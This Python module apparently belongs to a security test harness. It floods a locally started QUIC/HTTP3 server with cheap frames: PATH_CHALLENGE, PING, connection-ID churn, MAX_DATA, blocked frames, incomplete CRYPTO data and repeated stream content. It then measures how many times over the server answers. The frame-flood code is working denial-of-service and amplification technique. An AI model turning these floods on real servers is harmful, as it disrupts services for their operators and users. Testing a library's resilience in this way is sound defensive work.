"""Frames of QUIC that cost a client nothing: the library has no limits for most of them, so that the server must
bear a flood of each, or close the connection, and have nothing left to do afterwards."""

import os

import h3
from attack import format_rows
from h3_attack import Attack, Flood, measure, running

SECONDS = 120


def path_challenges(peer, _):
    peer.queue_frames(*(h3.path_challenge() for _ in range(120)))


def path_challenge_alone(peer, _):
    """Each is answered in a packet of 1,200 bytes, whatever its size."""
    peer.send(h3.path_challenge())


def pings(peer, _):
    peer.send(h3.PING)


def many_pings(peer, _):
    peer.queue_frames(*[h3.PING] * 1_100)


def new_connection_ids(peer, n):
    """Each retires the one before."""
    for at in range(20):
        number = (n - 1) * 20 + at + 1
        peer.queue_frames(h3.new_connection_id(number, number))


def retired_connection_ids(peer, n):
    """Each has the server issue another one."""
    peer.queue_frames(h3.retire_connection_id(n))
    peer.settle()


def credit(peer, n):
    for at in range(100):
        peer.queue_frames(h3.max_data((1 << 41) + n * 100 + at))


def blocked(peer, n):
    for at in range(100):
        peer.queue_frames(b"\x14" + h3.varint(n * 100 + at), b"\x16" + h3.varint(100))


def crypto(peer, n):
    """Messages of TLS that never come completely."""
    for at in range(50):
        peer.queue_frames(b"\x06" + h3.varint(1 + (n * 50 + at) % 8_000 * 2) + b"\x01x")


def repeated_content(peer, _):
    """The same bytes of a stream again and again, behind a gap."""
    for _ in range(40):
        peer.queue_frames(h3.stream_frame(0, 10, os.urandom(20)))
    peer.next_request = 4


ATTACKS = [
    Attack("PATH_CHALLENGE, 120 in a packet", path_challenges, 50, is_limited=False),
    Attack("PATH_CHALLENGE, one in a packet", path_challenge_alone, 200, is_limited=False),
    Attack("PING, one in a packet", pings, 500, is_limited=False),
    Attack("PING, 1,100 in a packet", many_pings, 50, is_limited=False),
    Attack("NEW_CONNECTION_ID", new_connection_ids, 50, is_limited=False),
    Attack("RETIRE_CONNECTION_ID", retired_connection_ids, 50, is_limited=False),
    Attack("MAX_DATA", credit, 50, is_limited=False),
    Attack("DATA_BLOCKED and STREAMS_BLOCKED", blocked, 50, is_limited=False),
    Attack("CRYPTO", crypto, 5, is_limited=False),
    Attack("the same content", repeated_content, 50, is_limited=False),
]


async def run(binary):
    rows, failures = [], []
    for number, attack in enumerate(ATTACKS):
        async with running(binary) as (server, port):
            row = {"attack": attack.name, "frames": "accepted"}
            try:
                row |= await measure(server, port, Flood(port, __name__, number))
                result = row["results"][0]
                row["frames"] = f"answers {result['received'] / max(result['sent'], 1):.2f} times"
            except Exception as error:
                row["frames"] = "failed"
                failures.append(f"{attack.name}: {type(error).__name__}: {error}")
        rows.append(row)
    report = format_rows(rows)
    assert not failures, report + "\n  " + "\n  ".join(failures)
    return report
